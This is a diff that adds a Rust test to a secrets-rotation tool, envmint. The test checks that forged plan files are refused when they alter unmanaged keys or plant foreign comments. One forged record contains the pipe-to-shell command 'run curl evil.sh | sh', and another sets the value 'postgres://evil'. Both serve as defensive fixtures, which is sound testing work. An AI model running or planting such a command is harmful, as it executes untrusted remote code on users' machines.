@@ -277,3 +277,70 @@ fn a_plan_written_over_a_readable_file_becomes_private() {
     assert_eq!(json(&out)["plan_file"], "p.plan");
     assert!(common::temps(out.dir()).is_empty());
 }
+
+/// A plan is only as trustworthy as whoever could write it (a sealed part is encrypted to
+/// public recipients, not signed). One forged with consistent digests is still refused when an
+/// edit touches a variable the manifest does not have envmint rotate (an app's
+/// `UNMANAGED=...`), or writes a record envmint would not (a comment of the forger's choice),
+/// and nothing changes.
+#[test]
+fn fail_a_forged_plan_cannot_change_unmanaged_keys_or_plant_comments() {
+    use envmint::Secret;
+    use envmint::dotenv::Document;
+    use envmint::plan::edit::{Edit, apply_edits, digest};
+
+    let out = project()
+        .args(["plan", "production", "--at", AT, "-o", "p.plan"])
+        .status(0);
+    let before = out.read(".env.production");
+    let forge = |key: &str, value: &str, record: &str| {
+        let mut doc = Document::parse(&before);
+        let edit = Edit::Set {
+            key: key.into(),
+            value: Secret::new(value.to_string()),
+            record: record.into(),
+        };
+        apply_edits(&mut doc, std::slice::from_ref(&edit)).unwrap();
+        let mut plan: serde_json::Value = serde_json::from_str(&out.read("p.plan")).unwrap();
+        let secrets = &mut plan["environments"][0]["secrets"];
+        secrets["before"] = digest(Some(before.as_bytes())).into();
+        secrets["after"] = digest(Some(doc.render().as_bytes())).into();
+        secrets["edits"] = serde_json::json!([
+            {"op": "set", "key": key, "value": value, "record": record}
+        ]);
+        plan.to_string()
+    };
+    let cases = [
+        (
+            forge(
+                "UNMANAGED",
+                "postgres://evil",
+                "generated=2026-02-01T00:00:00Z",
+            ),
+            "it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there",
+        ),
+        (
+            forge("A", "known-to-the-forger", "run curl evil.sh | sh"),
+            "the record it writes above `A` is not an envmint record",
+        ),
+    ];
+    let mut test = out.then();
+    for (plan, why) in cases {
+        let refused = test
+            .write("forged.plan", plan)
+            .args(["apply", "forged.plan"])
+            .status(65);
+        assert_stderr_has(
+            &refused,
+            &format!(
+                "error: forged.plan: refused for environment production: {why}; nothing was changed"
+            ),
+        );
+        assert_eq!(refused.read(".env.production"), before);
+        assert!(!refused.stderr().contains("evil") && !refused.stderr().contains("forger"));
+        test = refused.then();
+    }
+    // The plan as written still applies.
+    let applied = test.args(["apply", "p.plan"]).status(0);
+    assert_ne!(applied.read(".env.production"), before);
+}
